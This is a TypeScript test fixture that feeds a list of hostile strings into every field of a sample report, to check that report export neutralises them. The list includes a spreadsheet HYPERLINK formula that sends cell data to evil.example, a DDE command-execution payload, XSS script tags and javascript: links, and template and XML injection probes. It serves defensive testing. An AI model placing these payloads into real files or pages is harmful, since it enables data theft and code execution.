import type { Body } from '#app/domain/concern/body';
import type { ReportInput } from '#app/domain/report/input';
import { sampleConcern, sampleInput, sampleReply, WHOLE_TREATY } from '#app/domain/report/sample.fixture';

/** Strings that mean something to one format or another, and must mean nothing in a report. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  '＝1+1',
  '-2+3+cmd|calc!A1',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '</style></title></textarea>"\'><svg onload=alert(1)>',
  '[open](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example>',
  '# Head *bold* _it_ `code` ~~no~~ | a | b | &copy; &#65;',
  '1. one',
  '+ plus',
  '--- === ```',
  '#eval("1+1") $x^2$ @ref <label> \\ // /* */ #import "x.typ"',
  ']]><w:p/>&amp;<!ENTITY x "y"><?x?>',
  '${7*7} {{7*7}} %p %n %s',
];

/** A report with `text` wherever a person, or whoever imported the text, could have put it. */
export function hostileInput(text: string): ReportInput {
  const author = { name: text, organisation: text, constituency: 'industry' as const };
  const body: Body = {
    v: 1,
    blocks: [
      { k: 'p', c: [{ t: text }, { t: text, b: true, i: true }, { t: text, href: 'https://fine.example/a_b(c)' }] },
      { k: 'quote', c: [{ t: `first\n${text}` }, { t: text, href: 'javascript:alert(1)' }] },
      {
        k: 'list',
        ordered: true,
        items: [{ c: [{ t: text }], sub: { ordered: false, items: [{ c: [{ t: text, i: true }] }] } }],
      },
      { k: 'list', ordered: true, items: [{ c: [{ t: text }] }] },
    ],
  };
  const input = sampleInput();
  const placement = { citation: text, eIds: ['art_1'], ordinal: 2, prefix: text, suffix: text };
  const concern = sampleConcern(1, {
    author,
    body,
    statusReason: text,
    ask: 'delete',
    placements: [
      { ...WHOLE_TREATY, ...placement, scope: 'passage', quote: `${text}\n${text}`, start: 0, end: text.length },
      { ...WHOLE_TREATY, ...placement, scope: 'provision', citation: `${text} 2` },
    ],
    replies: [
      {
        ...sampleReply('"><x', author, 'x'),
        body: { v: 1, blocks: [{ k: 'p', c: [{ t: text }] }] },
        replies: [{ ...sampleReply('b', author, text), body }],
      },
    ],
  });
  return {
    ...input,
    review: { title: text, slug: 'a b/"<', brief: text },
    treaty: { ...input.treaty, title: text, versionLabel: text, characters: `${text}${text}` },
    provisions: [{ eId: 'art_1', citation: text, kind: 'article', number: text, heading: text }],
    concerns: [concern],
  };
}
